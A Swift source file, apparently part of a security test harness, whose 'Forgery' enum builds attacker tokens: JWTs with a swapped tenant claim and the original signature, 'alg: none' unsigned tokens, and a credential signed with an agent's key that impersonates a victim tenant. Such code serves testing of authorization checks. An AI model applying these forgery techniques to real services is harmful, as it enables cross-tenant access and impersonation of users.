import Acme
import Crypto
import JSON
import Primitives

/// Tokens of the attacker's own making.
enum Forgery {
    /// The token with another tenant, and the signature that it had.
    static func rewritten(_ token: String, tenant: ByteString) -> String {
        let parts = token.split(separator: ".", omittingEmptySubsequences: false)
        guard parts.count == 3 else { return token }
        return "\(parts[0]).\(claims(parts[1], tenant: tenant)).\(parts[2])"
    }

    /// The token with another tenant, `alg: none`, and no signature.
    static func unsigned(_ token: String, tenant: ByteString) -> String {
        let parts = token.split(separator: ".", omittingEmptySubsequences: false)
        guard parts.count == 3 else { return token }
        let header: JSONValue = ["alg": "none", "typ": "at+jwt"]
        return "\(Base64URL.encode(header.serialized())).\(claims(parts[1], tenant: tenant))."
    }

    /// A credential for Acme with all the right claims, another tenant's, and the agent's key in place of Remit's.
    static func credential(_ attacker: Attacker, id: ByteString, tool: ByteString, url: String) throws -> String {
        let facts = attacker.facts
        let now = SystemClock().now.seconds
        return try attacker.arena.agentKey.sign(
            [
                "iss": .string(attacker.arena.remit), "aud": .string(attacker.arena.url(.billing)),
                "sub": .string(facts.victim.subject),
                "sub_id": [
                    "format": "iss_sub", "iss": .string(attacker.arena.url(.identity)),
                    "sub": .string(facts.victim.subject),
                ],
                "act": ["sub": "support"], "tenant": .string(facts.victim.tenant), "tool": .string(tool),
                "req": .string(Base64URL.encode(SHA256.hash(data: Array("GET\n\(url)\n".utf8)))),
                "intent": "ent_forged", "jti": .string(id),
                "iat": .integer(now), "exp": .integer(now + 30),
            ], type: "remit-credential+jwt")
    }

    private static func claims(_ part: Substring, tenant: ByteString) -> String {
        guard let bytes = Base64URL.decode(part.utf8), var claims = (try? JSONValue(parsing: bytes))?.object else {
            return String(part)
        }
        claims["tenant"] = .string(tenant)
        return Base64URL.encode(JSONValue.object(claims).serialized())
    }
}
